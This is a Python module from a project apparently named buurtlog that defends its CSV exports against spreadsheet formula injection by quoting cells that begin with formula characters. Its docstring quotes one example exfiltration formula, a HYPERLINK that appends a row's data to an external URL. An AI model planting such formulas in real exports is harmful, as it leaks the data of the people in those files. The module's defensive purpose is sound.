"""The one way buurtlog writes CSV: cells a spreadsheet would run as a formula are defused.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which spreadsheets
skip before reading such a sign) is read by Excel, LibreOffice and Google Sheets as a formula
("CSV injection"): a note like `=HYPERLINK("https://…?"&A1, "klik")` would send the row's data
elsewhere when a coordinator opens the export. Following OWASP's advice, such a cell is
written with a single quote in front (`'=HYPERLINK(…`), which spreadsheets show as text.

The rule holds for every cell of every CSV, also the Open Referral (HSDS) files: a phone number
`+31 20 123 4567` is written as `'+31 20 123 4567`, and a negative number would be too (buurtlog
writes none: counts and ids are never negative). A strict rule is the safe one — a cell that
looks like a number today can be a formula tomorrow — and HSDS keeps phone numbers as text, so
the quote does not make the file invalid; consumers that want the number as it was remove a
leading quote that stands before one of these characters (`restore`), as buurtlog's own
importer does. The JSON exports carry every value unchanged.

Every CSV writer in buurtlog comes from `writer` (tests/test_csv.py checks that no other module
makes one).
"""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def defuse(value: object) -> str:
    """Return a value as a CSV cell's text: empty for None, quoted when it could be a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore(text: str) -> str:
    """Undo `defuse` on a cell read back: drop the quote in front of a formula character."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


class SafeWriter:
    """A csv.writer whose every cell goes through `defuse`."""

    def __init__(self, out: _Writable, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        """Write one row, each cell defused."""
        return self._writer.writerow([defuse(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write rows, each cell defused."""
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options) -> SafeWriter:
    """Return a CSV writer on `out` (options as csv.writer's) that defuses formula cells."""
    return SafeWriter(out, **options)
